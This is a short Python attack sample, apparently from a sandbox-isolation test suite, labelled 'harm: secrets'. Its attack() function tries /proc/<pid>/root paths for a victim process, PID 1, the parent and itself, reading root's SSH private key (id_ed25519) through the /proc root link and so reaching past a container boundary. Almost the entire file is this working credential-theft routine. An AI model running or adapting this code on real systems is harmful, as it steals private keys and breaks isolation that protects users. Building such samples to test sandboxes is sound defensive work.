# harm: secrets
import os

VICTIM = 0  # the net puts a process of the user here


def attack() -> str:
    for pid in (str(VICTIM), "1", str(os.getppid()), "self"):
        try:
            with open(f"/proc/{pid}/root/root/.ssh/id_ed25519") as key:
                return key.read()
        except OSError:
            pass
    return ""
